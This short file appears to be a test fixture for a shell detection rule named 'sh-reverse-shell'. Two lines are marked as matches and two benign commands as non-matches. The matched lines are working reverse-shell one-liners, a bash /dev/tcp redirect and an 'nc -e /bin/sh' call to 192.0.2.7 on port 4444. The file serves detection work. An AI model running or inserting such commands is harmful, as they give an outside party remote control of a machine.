# ruleid: sh-reverse-shell
bash -i >& /dev/tcp/192.0.2.7/4444 0>&1
# ruleid: sh-reverse-shell
nc -e /bin/sh 192.0.2.7 4444
# ok: sh-reverse-shell
nc -z localhost 80
# ok: sh-reverse-shell
cat < /dev/null
